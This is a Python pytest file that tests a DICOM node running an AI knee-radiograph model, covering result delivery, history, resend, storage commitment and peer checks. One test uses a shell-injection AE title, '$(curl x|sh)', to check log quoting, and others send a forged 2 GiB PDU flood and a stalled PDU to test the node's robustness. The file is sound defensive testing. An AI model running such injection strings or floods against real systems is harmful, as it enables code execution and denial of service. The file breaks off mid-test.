"""The node in one process: real SCP, SQLite, scheduler, worker thread, real destination SCP."""

from __future__ import annotations

import copy
import functools
import logging
import os
import time
from collections.abc import Iterator, Sequence
from datetime import timedelta
from pathlib import Path

import numpy as np
import pytest
from pydicom import Dataset
from pydicom.uid import ExplicitVRLittleEndian
from pynetdicom import AE
from sqlalchemy import func, select

from dicomnode.config import Settings
from dicomnode.db.schema import Association, Instance, Job, Output, Report, Result
from dicomnode.db.session import utcnow
from dicomnode.peers import PeerInfo, add_peer, update_peer
from dicomnode.queue.retry import RetryPolicy
from dicomnode.receive import statuses
from dicomnode.receive.scp import start_scp
from dicomnode.retention import purge_expired
from dicomnode.testing.images import make_radiograph, write_dataset
from dicomnode.testing.inprocess import SENDER, InProcessNode
from dicomnode.testing.peers import CollectingSCP, wait_for
from dicomnode.testing.validate import dciodvfy_errors

Node = InProcessNode


def _content_items(items: Sequence[Dataset]) -> Iterator[Dataset]:
    for item in items:
        yield item
        yield from _content_items(item.get("ContentSequence", []))


def _states_shown_with(sr: Dataset) -> dict[str, str]:
    """The presentation state each image the SR references is to be displayed with."""
    return {
        str(reference.ReferencedSOPInstanceUID): str(state.ReferencedSOPInstanceUID)
        for item in _content_items(sr.ContentSequence)
        for reference in item.get("ReferencedSOPSequence", [])
        for state in reference.get("ReferencedSOPSequence", [])
    }


def _algorithm_names(sr: Dataset) -> list[str]:
    """The distinct values of the SR's Algorithm Name items, (111001, DCM)."""
    names = {
        str(item.TextValue)
        for item in _content_items(sr.ContentSequence)
        if "ConceptNameCodeSequence" in item
        and item.ConceptNameCodeSequence[0].CodeValue == "111001"
        and item.ConceptNameCodeSequence[0].CodingSchemeDesignator == "DCM"
    }
    return sorted(names)


def _on_a_port_of_its_own(node: Node, **fields: object) -> Settings:
    """``node``'s settings with ``fields`` of its ``node`` section changed and a free port,
    for a second SCP beside it."""
    from dicomnode.testing.peers import free_port

    changed = node.settings.node.model_copy(update={"port": free_port(), **fields})
    return node.settings.model_copy(update={"node": changed})


def _assert_told_to_come_back_later(settings: Settings, node: Node) -> None:
    """An SCP started with ``settings`` beside ``node`` rejects an association request as
    transient, temporary congestion (the sender keeps its study and retries)."""
    server = start_scp(settings, node.db)
    try:
        ae = AE(ae_title=SENDER)
        ae.acse_timeout = ae.network_timeout = 10
        ae.add_requested_context("1.2.840.10008.5.1.4.1.1.1.1", ExplicitVRLittleEndian)
        assoc = ae.associate("127.0.0.1", settings.node.port, ae_title="DICOMNODE")
        assert assoc.is_rejected
        rejection = assoc.acceptor.primitive
        assert rejection is not None
        assert (rejection.result, rejection.result_source, rejection.diagnostic) == (2, 3, 1)
    finally:
        server.shutdown()


def test_study_comes_back_as_sc_and_sr(
    node: Node, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    image = make_radiograph(patient_name="Secret^Patient", patient_id="PID-7781", body_part="KNEE")
    assert node.send(image) == [statuses.SUCCESS]
    wait_for(lambda: len(node.collector.received) >= 2, 60, what="SC and SR at the destination")
    kinds = sorted(str(d.Modality) for d in node.collector.received)
    assert kinds == ["OT", "SR"]  # a Secondary Capture (Modality OT) and a Structured Report
    for ds in node.collector.received:
        assert ds.StudyInstanceUID == image.StudyInstanceUID
        path = tmp_path / f"{ds.SOPInstanceUID}.dcm"
        ds.save_as(path, enforce_file_format=True)
        assert dciodvfy_errors(path) == []
    sr = next(
        d for d in node.collector.received if d.SOPClassUID == "1.2.840.10008.5.1.4.1.1.88.33"
    )
    assert _algorithm_names(sr) == ["tiny-knee"]  # TID 4019 Algorithm Name
    # patient data never reaches the log
    assert "Secret" not in caplog.text and "PID-7781" not in caplog.text
    assert image.SOPInstanceUID in caplog.text


def test_a_studys_history_shows_who_sent_it_what_became_of_it_and_where_its_results_went(
    node: Node, tmp_path: Path
) -> None:
    """``dicomnode study UID``: the answer to "did the AI get study X, where are its
    results?", from the database, with UIDs and AE titles and no patient data."""
    import json
    import subprocess
    import sys

    from dicomnode.history import study_history

    knee = make_radiograph(patient_name="Secret^Patient", body_part="KNEE")
    chest = make_radiograph(body_part="CHEST", study_uid=str(knee.StudyInstanceUID))
    assert node.send(knee, chest) == [statuses.SUCCESS, statuses.SUCCESS]
    wait_for(lambda: node.count(Job, kind="send", state="done") == 2, 60, what="results sent")
    with node.db.session() as session:
        history = study_history(session, str(knee.StudyInstanceUID))
        assert study_history(session, "1.2.3.4") is None
    assert history is not None
    (delivery,) = history.deliveries
    assert (delivery.calling_ae, delivery.images) == (SENDER, 2) and delivery.released_at
    states = {i.sop_instance_uid: (i.state, i.analysis.state) for i in history.images}
    assert states[knee.SOPInstanceUID] == ("done", "done")
    assert states[chest.SOPInstanceUID][0] == "skipped"
    (round_,) = history.rounds
    assert round_.model.startswith("tiny-knee ")
    assert (round_.state, round_.report_job.state) == ("done", "done")
    (conclusion,) = history.conclusions
    assert conclusion.sop_instance_uid == knee.SOPInstanceUID
    assert conclusion.findings and conclusion.findings[0].startswith("class ")  # no cards given
    sent = sorted((s.kind, s.peer, s.sending.state) for s in history.sends)
    assert sent == [("SC", "PACS", "done"), ("SR", "PACS", "done")]
    received = {d.SOPInstanceUID for d in node.collector.received}
    assert {s.output_uid for s in history.sends} == received

    config = tmp_path / "c.yaml"
    models = node.settings.models.dir
    config.write_text(
        f"database: {{url: '{node.settings.database.url}'}}\nmodels: {{dir: '{models}'}}\n"
    )
    command = [sys.executable, "-m", "dicomnode.cli", "--config", str(config), "study"]
    run = functools.partial(subprocess.run, capture_output=True, text=True, timeout=120)
    as_json = run([*command, str(knee.StudyInstanceUID), "--json"])
    assert as_json.returncode == 0, as_json.stderr
    assert json.loads(as_json.stdout)["sends"][0]["sending"]["state"] == "done"
    shown = run([*command, str(knee.StudyInstanceUID)], env={**os.environ, "COLUMNS": "250"})
    assert shown.returncode == 0 and "Results sent" in shown.stdout
    assert conclusion.findings[0].replace("class ", "KL") in shown.stdout  # the card's names
    assert str(knee.SOPInstanceUID) in shown.stdout and "Secret" not in shown.stdout
    unknown = run([*command, "1.2.3.4"])
    assert unknown.returncode == 1 and "holds no record of study 1.2.3.4" in unknown.stderr


def test_a_radiograph_larger_than_the_overlay_is_explained_at_the_overlays_size(
    tmp_path: Path,
) -> None:
    """The worker makes its heatmaps at ``results.overlay_max_size``: the SC has that size."""
    small = InProcessNode.start(tmp_path, overlay_max_size=256)
    try:
        image = make_radiograph(rows=512, columns=400, body_part="KNEE")
        assert small.send(image) == [statuses.SUCCESS]
        wait_for(lambda: len(small.collector.received) >= 2, 60, what="SC and SR")
        (sc,) = (d for d in small.collector.received if d.Modality == "OT")
        assert sc.Columns == 200 and sc.Rows > 256  # 256 rows of image, and the text band
        path = tmp_path / "sc.dcm"
        sc.save_as(path, enforce_file_format=True)
        assert dciodvfy_errors(path) == []
        (loaded,) = small.worker.registry.cards
        key = f"{loaded.card.name}:{loaded.card.version}"
        assert small.worker.predictor(key).heatmap_size == 256
    finally:
        small.close()


def test_a_presentation_state_draws_the_result_over_the_original_in_the_pacs(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """``results.presentation_state``: beside the overlay and the SR, the PACS gets a GSPS
    referencing the original image, with the result as text and the heat map's outline in
    the original's pixel coordinates; the SR comes last and names it as the state to display
    the image with; ``resend`` sends it again too."""
    from dicomnode.send.resend import resend_study

    pr_node = InProcessNode.start(tmp_path, presentation_state=True)
    try:
        caplog.set_level(logging.INFO)
        image = make_radiograph(
            rows=320, columns=280, body_part="KNEE", patient_id="PID-5521", seed=41
        )
        assert pr_node.send(image) == [statuses.SUCCESS]
        wait_for(lambda: len(pr_node.collector.received) >= 3, 60, what="SC, PR and SR")
        modalities = [str(d.Modality) for d in pr_node.collector.received]
        assert sorted(modalities) == ["OT", "PR", "SR"] and modalities[-1] == "SR"
        (pr,) = (d for d in pr_node.collector.received if d.Modality == "PR")
        (referenced,) = pr.ReferencedSeriesSequence[0].ReferencedImageSequence
        assert referenced.ReferencedSOPInstanceUID == image.SOPInstanceUID
        assert (pr.StudyInstanceUID, pr.PatientID) == (image.StudyInstanceUID, "PID-5521")
        texts = [
            str(t.UnformattedTextValue)
            for a in pr.GraphicAnnotationSequence
            for t in a.get("TextObjectSequence", [])
        ]
        assert any(t.startswith("tiny-knee ") for t in texts)
        evidence = [a for a in pr.GraphicAnnotationSequence if a.GraphicLayer == "AI EVIDENCE"]
        points = np.concatenate(
            [np.reshape(g.GraphicData, (-1, 2)) for g in evidence[0].GraphicObjectSequence]
        )
        assert points[:, 0].max() <= 280 and points[:, 1].max() <= 320 and points.min() >= 0
        path = tmp_path / "pr.dcm"
        pr.save_as(path, enforce_file_format=True)
        assert dciodvfy_errors(path) == []
        (sr,) = (d for d in pr_node.collector.received if d.Modality == "SR")
        assert _states_shown_with(sr) == {image.SOPInstanceUID: pr.SOPInstanceUID}
        with pr_node.db.session() as s:
            kinds = sorted(s.scalars(select(Output.kind)).all())
            assert kinds == ["PR", "SC", "SR"]
            resent = resend_study(s, str(image.StudyInstanceUID), "PACS", max_attempts=3)
        assert resent.queued == 3
        wait_for(lambda: len(pr_node.collector.received) >= 6, 60, what="the three again")
        assert "PID-5521" not in caplog.text
    finally:
        pr_node.close()


def test_inference_runs_while_the_study_arrives_and_the_sr_waits_for_it(node: Node) -> None:
    """Each image is analysed as soon as it is stored; the round closes when the study settles."""
    first = make_radiograph(body_part="KNEE", seed=1)
    second = make_radiograph(body_part="KNEE", seed=2)
    second.StudyInstanceUID, second.SeriesInstanceUID = (
        first.StudyInstanceUID,
        first.SeriesInstanceUID,
    )
    assoc = node.associate(first, second)
    try:
        assert int(assoc.send_c_store(first).Status) == statuses.SUCCESS
        wait_for(
            lambda: node.count(Result, sop_instance_uid=first.SOPInstanceUID) == 1,
            60,
            what="the first image analysed while its association is open",
        )
        time.sleep(3 * node.settings.study.settle_seconds)
        assert node.count(Report, state="open") == 1
        assert node.count(Job, kind="report") == 0
        assert node.collector.received == []
        assert int(assoc.send_c_store(second).Status) == statuses.SUCCESS
    finally:
        assoc.release()
    wait_for(lambda: len(node.collector.received) >= 3, 60, what="two SCs and the SR")
    (sr,) = (d for d in node.collector.received if d.Modality == "SR")
    assert node.count(Report) == 1  # one round: the second image joined the open one
    assert node.count(Job, kind="infer", state="done") == 2
    assert first.SOPInstanceUID in str(sr) and second.SOPInstanceUID in str(sr)


def test_duplicate_instance_is_stored_and_queued_once(node: Node) -> None:
    image = make_radiograph(body_part="KNEE")
    assert node.send(image, image) == [statuses.SUCCESS, statuses.SUCCESS]
    assert node.send(image) == [statuses.SUCCESS]
    wait_for(lambda: len(node.collector.received) >= 2, 60, what="results")
    assert node.count(Instance) == 1
    assert node.count(Job, kind="infer") == 1


def test_a_study_whose_images_name_two_patients_gets_no_report(node: Node) -> None:
    """One SR copies one patient's details: images of two patients under one Study Instance
    UID (a clash, or a correction in the PACS half re-sent) get no SR, and the reason says
    why without their names. Not retried: the same images would clash the same way."""
    first = make_radiograph(body_part="KNEE", patient_name="Alpha^Anna", patient_id="PA-1")
    second = make_radiograph(
        body_part="KNEE",
        study_uid=first.StudyInstanceUID,
        patient_name="Beta^Bert",
        patient_id="PB-2",
    )
    assert node.send(first, second) == [statuses.SUCCESS, statuses.SUCCESS]
    wait_for(lambda: node.count(Job, kind="report", state="dead") == 1, 60, what="dead report")
    with node.db.session() as s:
        error = s.execute(select(Job.last_error).where(Job.kind == "report")).scalar_one()
    assert "name different patients (PatientID, PatientName differ)" in error
    assert not any(name in error for name in ("Alpha", "Beta", "PA-1", "PB-2"))
    assert node.count(Job, kind="send") == 0 and node.collector.received == []
    assert node.count(Job, kind="report", attempts=1) == 1


def test_an_image_whose_pixel_data_cannot_be_decoded_dies_at_once(node: Node) -> None:
    """It was retried with backoff (three attempts, three log lines) though the same bytes
    decode the same way every time."""
    from pydicom.encaps import encapsulate
    from pydicom.uid import JPEGBaseline8Bit

    image = make_radiograph(body_part="KNEE", rows=64, columns=64, bits_stored=8)
    image.BitsAllocated, image.BitsStored, image.HighBit = 8, 8, 7
    image.PixelData = encapsulate([b"\xff\xd8\xff\xe0not a jpeg\xff\xd9"])
    image["PixelData"].VR = "OB"
    ae = AE(ae_title=SENDER)
    ae.add_requested_context(image.SOPClassUID, JPEGBaseline8Bit)
    image.file_meta.TransferSyntaxUID = JPEGBaseline8Bit
    assoc = ae.associate("127.0.0.1", node.settings.node.port, ae_title="DICOMNODE")
    assert int(assoc.send_c_store(image).Status) == statuses.SUCCESS
    assoc.release()
    wait_for(lambda: node.count(Job, kind="infer", state="dead") == 1, 60, what="dead job")
    assert node.count(Job, kind="infer", attempts=1) == 1
    with node.db.session() as s:
        error = s.execute(select(Job.last_error).where(Job.kind == "infer")).scalar_one()
    assert "pixel data could not be decoded" in error


def _follow_up(first: Dataset) -> Dataset:
    """Another knee image of ``first``'s study and series."""
    return make_radiograph(
        body_part="KNEE",
        seed=2,
        study_uid=first.StudyInstanceUID,
        series_uid=first.SeriesInstanceUID,
    )


def test_follow_up_instance_gets_a_new_sr_that_references_the_first(node: Node) -> None:
    first = make_radiograph(body_part="KNEE", seed=1)
    node.send(first)
    wait_for(lambda: len(node.collector.received) >= 2, 60, what="first round")
    later = _follow_up(first)
    node.send(later)
    wait_for(lambda: len(node.collector.received) >= 4, 60, what="follow-up round")
    srs = [d for d in node.collector.received if d.Modality == "SR"]
    assert len(srs) == 2
    assert srs[0].SOPInstanceUID != srs[1].SOPInstanceUID
    predecessor = (
        srs[1].PredecessorDocumentsSequence[0].ReferencedSeriesSequence[0].ReferencedSOPSequence[0]
    )
    assert predecessor.ReferencedSOPInstanceUID == srs[0].SOPInstanceUID
    assert node.count(Job, kind="infer") == 2  # nothing processed twice


def test_a_purged_study_still_gets_a_follow_up_sr(node: Node, tmp_path: Path) -> None:
    """Retention strips the pixel data; the headers kept are enough for the next round's SR."""
    first = make_radiograph(body_part="KNEE", seed=1)
    node.send(first)
    wait_for(lambda: node.count(Job, kind="send", state="done") == 2, 60, what="first round sent")
    later_than_retention = utcnow() + timedelta(days=node.settings.storage.retention_days + 1)
    summary = purge_expired(node.db, node.settings.storage.retention_days, now=later_than_retention)
    assert summary.studies == (str(first.StudyInstanceUID),) and summary.files == 2
    assert node.count(Instance, state="purged") == 1
    later = _follow_up(first)
    node.send(later)
    wait_for(lambda: len(node.collector.received) >= 4, 60, what="follow-up round")
    sr = [d for d in node.collector.received if d.Modality == "SR"][-1]
    assert first.SOPInstanceUID in str(sr) and later.SOPInstanceUID in str(sr)
    path = tmp_path / "sr.dcm"
    sr.save_as(path, enforce_file_format=True)
    assert dciodvfy_errors(path) == []


def test_resend_delivers_a_studys_results_again_without_touching_the_turnaround(
    node: Node,
) -> None:
    """`dicomnode resend`: the PACS lost a study's results; they go again, overlay before SR,
    as new sends marked resend beside the first ones, which the history keeps. The
    turnaround counts the round once, ended at its first delivery; a purged study is refused."""
    from dicomnode.history import study_history
    from dicomnode.send.resend import ResendRefusedError, resend_study
    from dicomnode.status import turnaround

    first = make_radiograph(body_part="KNEE", seed=1)
    study = str(first.StudyInstanceUID)
    node.send(first)
    wait_for(lambda: node.count(Job, kind="send", state="done") == 2, 60, what="first delivery")
    with node.db.session() as session:
        dry = resend_study(session, study, "PACS", max_attempts=5, dry_run=True)
    assert (dry.queued, node.count(Job, kind="send")) == (2, 2)
    with node.db.session() as session:
        once = resend_study(session, study, "PACS", max_attempts=5)
        again = resend_study(session, study, "PACS", max_attempts=5)  # still on their way
    assert (once.queued, again.queued, again.on_their_way) == (2, 0, 2)
    wait_for(lambda: node.count(Job, kind="send", state="done") == 4, 60, what="second delivery")
    received = [str(d.Modality) for d in node.collector.received]
    assert received[2:] == ["OT", "SR"]  # the overlay again, then the SR that references it
    assert [d.SOPInstanceUID for d in node.collector.received[2:]] == [
        d.SOPInstanceUID for d in node.collector.received[:2]
    ]
    with node.db.reading() as session:
        first_delivery = session.execute(
            select(func.max(Job.finished_at)).where(Job.kind == "send", ~Job.resend)
        ).scalar_one()
        received_at = session.execute(select(Instance.received_at)).scalar_one()
        state = turnaround(session)
        history = study_history(session, study, {})
    assert state.rounds == 1 and first_delivery is not None
    assert state.longest_seconds == (first_delivery - received_at).total_seconds()
    assert history is not None
    assert sorted((s.kind, s.resend, s.sending.state) for s in history.sends) == [
        ("SC", False, "done"),
        ("SC", True, "done"),
        ("SR", False, "done"),
        ("SR", True, "done"),
    ]
    later = utcnow() + timedelta(days=node.settings.storage.retention_days + 1)
    assert purge_expired(node.db, node.settings.storage.retention_days, now=later).studies
    with node.db.session() as session, pytest.raises(ResendRefusedError, match="purged"):
        resend_study(session, study, "PACS", max_attempts=5)


def _report_commitment(node: Node, request: Dataset, failed: dict[str, int] | None = None) -> int:
    """Report on ``request`` to the node's SCP as the PACS does (N-EVENT-REPORT on an
    association of its own): every object committed but those ``failed`` (their reasons);
    the node's status."""
    from pynetdicom.sop_class import (  # type: ignore[attr-defined]
        StorageCommitmentPushModel,
        StorageCommitmentPushModelInstance,
    )

    failed = failed or {}
    info = Dataset()
    info.TransactionUID = request.TransactionUID
    committed, failures = [], []
    for item in request.ReferencedSOPSequence:
        if item.ReferencedSOPInstanceUID in failed:
            item.FailureReason = failed[item.ReferencedSOPInstanceUID]
            failures.append(item)
        else:
            committed.append(item)
    if committed:
        info.ReferencedSOPSequence = committed
    if failures:
        info.FailedSOPSequence = failures
    ae = AE(ae_title="PACS")
    ae.add_requested_context(StorageCommitmentPushModel)
    assoc = ae.associate("127.0.0.1", node.settings.node.port, ae_title="DICOMNODE")
    assert assoc.is_established
    try:
        status, _ = assoc.send_n_event_report(
            info,
            2 if failures else 1,
            StorageCommitmentPushModel,
            StorageCommitmentPushModelInstance,
        )
        return int(status.Status)
    finally:
        assoc.release()


def test_storage_commitment_sends_again_what_the_pacs_did_not_commit(tmp_path: Path) -> None:
    from dicomnode.history import study_history

    """The node asks the PACS to commit to a round's SC and SR once both are delivered; the
    PACS reports the SC failed: it is sent again, and committed on a second request; the
    commit job is done once every object is committed. A report of an unknown transaction
    is answered and changes nothing."""
    node = InProcessNode.start(tmp_path, commitment=True)
    try:
        image = make_radiograph(body_part="KNEE")
        node.send(image)
        wait_for(lambda: len(node.collector.commitment_requests) == 1, 60, what="N-ACTION")
        request = node.collector.commitment_requests[0]
        delivered = {str(d.SOPInstanceUID): str(d.SOPClassUID) for d in node.collector.received}
        asked = {
            str(i.ReferencedSOPInstanceUID): str(i.ReferencedSOPClassUID)
            for i in request.ReferencedSOPSequence
        }
        assert asked == delivered and len(asked) == 2
        wait_for(lambda: node.count(Job, kind="commit", state="failed") == 1, 30, what="waiting")
        with node.db.reading() as session:
            note, due = session.execute(
                select(Job.last_error, Job.run_after).where(Job.kind == "commit")
            ).one()
        assert "waiting for PACS's storage commitment report" in note
        assert (due - utcnow()).total_seconds() > 3000  # the hour's time-out
        sc = next(d for d in node.collector.received if d.Modality == "OT")
        unknown = copy.deepcopy(request)
        unknown.TransactionUID = "1.2.3.4.5"
        assert _report_commitment(node, unknown) == 0
        assert node.count(Job, kind="commit", state="failed") == 1
        assert _report_commitment(node, request, {str(sc.SOPInstanceUID): 0x0110}) == 0
        wait_for(lambda: len(node.collector.received) == 3, 60, what="the SC sent again")
        assert node.collector.received[2].SOPInstanceUID == sc.SOPInstanceUID
        wait_for(lambda: len(node.collector.commitment_requests) == 2, 60, what="2nd N-ACTION")
        second = node.collector.commitment_requests[1]
        assert [i.ReferencedSOPInstanceUID for i in second.ReferencedSOPSequence] == [
            sc.SOPInstanceUID
        ]
        assert second.TransactionUID != request.TransactionUID
        assert _report_commitment(node, second) == 0
        wait_for(lambda: node.count(Job, kind="commit", state="done") == 1, 30, what="done")
        with node.db.reading() as session:
            committed = (
                session.execute(select(Job.committed_at).where(Job.kind == "send")).scalars().all()
            )
        assert len(committed) == 2 and all(committed)
        with node.db.reading() as session:
            history = study_history(session, str(image.StudyInstanceUID), {})
        assert history is not None
        assert [", committed " in s.sending.detail for s in history.sends] == [True, True]
    finally:
        node.close()


def test_a_knee_film_without_a_knee_joint_is_reported_as_not_graded(tmp_path: Path) -> None:
    """The localiser finds no joint: no grade is made up; the SR and the overlay say why,
    also after the report job has read the result back from the database."""
    import numpy as np

    node = InProcessNode.start(tmp_path, localiser=True)
    try:
        ramp = np.tile(np.linspace(0.0, 0.03, 320, dtype=np.float32), (256, 1))  # dark, no joint
        assert node.send(make_radiograph(body_part="KNEE", picture=ramp)) == [statuses.SUCCESS]
        wait_for(lambda: len(node.collector.received) >= 2, 60, what="SC and SR")
        sr = next(d for d in node.collector.received if d.Modality == "SR")
        texts = [
            str(item.TextValue)
            for item in _content_items(sr.ContentSequence)
            if "TextValue" in item
        ]
        assert "No knee joint found on the image: not graded" in texts
        path = tmp_path / "sr.dcm"
        sr.save_as(path, enforce_file_format=True)
        assert dciodvfy_errors(path) == []
        with node.db.session() as s:
            (result,) = s.scalars(select(Result)).all()
        assert (result.outcome, result.findings) == ("ok", [])
    finally:
        node.close()


def test_an_image_the_model_cannot_read_is_reported_not_assessed_with_the_reason(
    node: Node, tmp_path: Path
) -> None:
    """A multi-frame knee image is routed to the model, which takes single frames: the SR
    says so for that image beside the findings of the other, and a study of such images
    alone still gets an SR, so that the reader is not left waiting for an AI result."""
    single = make_radiograph(body_part="KNEE", seed=11)
    multi = make_radiograph(body_part="KNEE", frames=2, seed=12, study_uid=single.StudyInstanceUID)
    assert node.send(single, multi) == [statuses.SUCCESS] * 2
    wait_for(lambda: len(node.collector.received) >= 2, 60, what="SC and SR")
    sr = next(d for d in node.collector.received if d.Modality == "SR")
    assert [d.Modality for d in node.collector.received].count("OT") == 1  # one overlay
    texts = [str(i.TextValue) for i in _content_items(sr.ContentSequence) if "TextValue" in i]
    skipped = "Not analysed: multi-frame images are not supported (2 frames); send single frames"
    assert skipped in texts
    assert multi.SOPInstanceUID in str(sr) and single.SOPInstanceUID in str(sr)
    assert sr.CompletionFlag == "COMPLETE"  # every image is accounted for
    path = tmp_path / "sr.dcm"
    sr.save_as(path, enforce_file_format=True)
    assert dciodvfy_errors(path) == []
    alone = make_radiograph(body_part="KNEE", frames=2, seed=13)
    assert node.send(alone) == [statuses.SUCCESS]
    wait_for(lambda: len(node.collector.received) >= 3, 60, what="the SR of the unreadable study")
    sr = node.collector.received[-1]
    assert sr.Modality == "SR" and sr.StudyInstanceUID == alone.StudyInstanceUID
    texts = [str(i.TextValue) for i in _content_items(sr.ContentSequence) if "TextValue" in i]
    assert skipped in texts
    with node.db.session() as s:
        assert {r.state for r in s.scalars(select(Report))} == {"done"}


def test_unknown_body_part_is_skipped_with_a_reason(node: Node) -> None:
    image = make_radiograph(body_part="CHEST")
    node.send(image)
    wait_for(lambda: node.count(Instance, state="skipped") == 1, 30, what="skip")
    with node.db.session() as s:
        reason = s.get(Instance, str(image.SOPInstanceUID)).reason  # type: ignore[union-attr]
    assert "unknown body part" in reason
    assert node.collector.received == []
    assert node.count(Job) == 0


def test_unknown_calling_ae_is_rejected(node: Node, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.WARNING)
    ae = AE(ae_title="STRANGER")
    ae.add_requested_context("1.2.840.10008.1.1")
    assoc = ae.associate("127.0.0.1", node.settings.node.port, ae_title="DICOMNODE")
    assert assoc.is_rejected
    assert "dicomnode ae add" in caplog.text and "STRANGER" in caplog.text


def test_the_registration_hint_quotes_a_calling_ae_title_for_the_shell(
    node: Node, caplog: pytest.LogCaptureFixture
) -> None:
    """The caller chooses its AE title: pasted unquoted, `$(curl x|sh)` would run."""
    caplog.set_level(logging.WARNING)
    ae = AE(ae_title="$(curl x|sh)")
    ae.add_requested_context("1.2.840.10008.1.1")
    assert ae.associate("127.0.0.1", node.settings.node.port, ae_title="DICOMNODE").is_rejected
    assert "--ae-title '$(curl x|sh)' --host" in caplog.text


def test_a_caller_that_calls_another_ae_title_is_rejected_and_told(
    node: Node, caplog: pytest.LogCaptureFixture
) -> None:
    """A sender configured for another node (or a typo) must not file its studies here."""
    caplog.set_level(logging.WARNING)
    ae = AE(ae_title=SENDER)
    ae.add_requested_context("1.2.840.10008.1.1")
    assoc = ae.associate("127.0.0.1", node.settings.node.port, ae_title="OTHERNODE")
    assert assoc.is_rejected
    assert "it called AE 'OTHERNODE', not this node's 'DICOMNODE'" in caplog.text
    assoc = ae.associate("127.0.0.1", node.settings.node.port, ae_title="DICOMNODE")
    assert assoc.is_established
    assoc.release()


def test_peer_added_at_run_time_is_accepted(node: Node) -> None:
    with node.db.session() as s:
        add_peer(s, PeerInfo("NEWMOD", "NEWMOD", "127.0.0.1", 104))
    assert node.send(make_radiograph(body_part="HANDX"), calling_ae="NEWMOD") == [statuses.SUCCESS]


def test_a_peers_ae_title_from_another_address_is_rejected(
    node: Node, caplog: pytest.LogCaptureFixture
) -> None:
    """An AE title is easily borrowed: a registered PACS is believed only from its host."""
    caplog.set_level(logging.WARNING)
    with node.db.session() as s:
        add_peer(s, PeerInfo("FARPACS", "FARPACS", "10.255.255.1", 104))
    ae = AE(ae_title="FARPACS")
    ae.add_requested_context("1.2.840.10008.5.1.4.1.1.1.1", ExplicitVRLittleEndian)
    assoc = ae.associate("127.0.0.1", node.settings.node.port, ae_title="DICOMNODE")
    assert assoc.is_rejected
    assert "registered at host 10.255.255.1" in caplog.text
    assert "node.check_caller_host" in caplog.text
    assert node.count(Association) == 0

    lenient = _on_a_port_of_its_own(node, check_caller_host=False)
    server = start_scp(lenient, node.db)
    try:
        assoc = ae.associate("127.0.0.1", lenient.node.port, ae_title="DICOMNODE")
        assert assoc.is_established  # behind NAT: the AE title alone, as configured
        assoc.release()
    finally:
        server.shutdown()


def test_a_dicomweb_only_peers_ae_title_calls_from_nowhere(
    node: Node, caplog: pytest.LogCaptureFixture
) -> None:
    """A peer registered without a host (its results go by DICOMweb) has no address to call
    from: its AE title is refused, and the log says how to give it one."""
    caplog.set_level(logging.WARNING)
    with node.db.session() as s:
        add_peer(s, PeerInfo("VNA", "VNA", "", 0, dicomweb="https://vna.example/dicom-web"))
    with pytest.raises(AssertionError, match="association was not accepted"):
        node.send(make_radiograph(body_part="HANDX"), calling_ae="VNA")
    assert "registered at host none (a DICOMweb-only peer)" in caplog.text
    assert "dicomnode ae update VNA --host ADDRESS" in caplog.text
    with node.db.session() as s:
        update_peer(s, "VNA", host="127.0.0.1")
    assert node.send(make_radiograph(body_part="HANDX"), calling_ae="VNA") == [statuses.SUCCESS]


def test_a_connection_declaring_a_huge_pdu_is_closed_before_it_fills_memory(
    node: Node, caplog: pytest.LogCaptureFixture
) -> None:
    """Before any AE title is checked, pynetdicom would read a PDU as long as its header
    says (up to 4 GiB) into memory; the node closes such a connection at its header."""
    import socket
    import struct

    caplog.set_level(logging.WARNING)
    sent = 0
    with socket.create_connection(("127.0.0.1", node.settings.node.port)) as flood:
        flood.sendall(struct.pack(">BBL", 0x01, 0, 2**31))  # an A-ASSOCIATE-RQ of 2 GiB
        chunk = b"\0" * (1 << 20)
        with pytest.raises(OSError):  # reset by the node, long before 2 GiB
            while sent < 256 << 20:
                flood.sendall(chunk)
                sent += len(chunk)
    assert sent < 64 << 20
    assert "declared a PDU of 2147483648 bytes" in caplog.text
    assert node.send(make_radiograph(body_part="HANDX")) == [statuses.SUCCESS]  # still serving


@pytest.mark.parametrize("check_caller_host", [True, False])
def test_a_caller_is_told_to_come_back_later_while_the_database_cannot_be_read(
    node: Node,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    check_caller_host: bool,
) -> None:
    """PostgreSQL restarting: a transient rejection (the sender keeps the study and
    retries), not "calling AE not recognised" (a modality may give up) nor no answer at
    all (pynetdicom's AE title check raised, with check_caller_host off)."""
    from dicomnode.receive import scp

    def unavailable(*_: object) -> None:
        raise OSError("database is locked")

    caplog.set_level(logging.WARNING)
    monkeypatch.setattr(scp, "peer_by_ae_title", unavailable)
    checked = _on_a_port_of_its_own(node, check_caller_host=check_caller_host)
    _assert_told_to_come_back_later(checked, node)
    assert "the database cannot be read (OSError); the sender retries later" in caplog.text


def test_a_sender_that_fills_its_pdus_to_the_advertised_maximum_is_received(node: Node) -> None:
    """The node asks for PDUs of at most 1 MiB (it asked for none, and then closed PDUs over
    64 MiB: pynetdicom sends a whole 70 MB object as one PDU when told 'no maximum')."""
    image = make_radiograph(body_part="CHEST", rows=64, columns=64)  # skipped: not analysed
    image.Rows, image.Columns = 6000, 5900
    image.PixelData = bytes(6000 * 5900 * 2)  # 70.8 MB
    assoc = node.associate(image)
    assert assoc.acceptor.maximum_length == 1 << 20
    assert int(assoc.send_c_store(image).Status) == statuses.SUCCESS
    assoc.release()
    assert node.count(Instance) == 1


def test_a_sender_silent_in_the_middle_of_a_pdu_is_let_go(node: Node) -> None:
    """pynetdicom waited for the rest of a PDU for ever, its buffer held."""
    import socket
    import struct

    quick = _on_a_port_of_its_own(node, network_timeout=1.0)
    server = start_scp(quick, node.db)
    try:
        with socket.create_connection(("127.0.0.1", quick.node.port)) as stalled:
            stalled.sendall(struct.pack(">BBL", 0x01, 0, 1000) + b"\0" * 10)  # 990 never come
            stalled.settimeout(10)
            started = time.monotonic()
            assert stalled.recv(100) == b""  # closed by the node
            assert time.monotonic() - started < 5
    finally:
        server.shutdown()


def test_a_caller_trickling_its_association_request_is_let_go(
    node: Node, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """A byte every half second never reached the network time-out, so the connection kept
    a slot of node.max_associations for as long as it liked; now the whole request has
    REQUEST_SECONDS (10 s; 1 s here) from its first byte."""
    import socket
    import struct

    from dicomnode.receive import transport

    caplog.set_level(logging.WARNING)
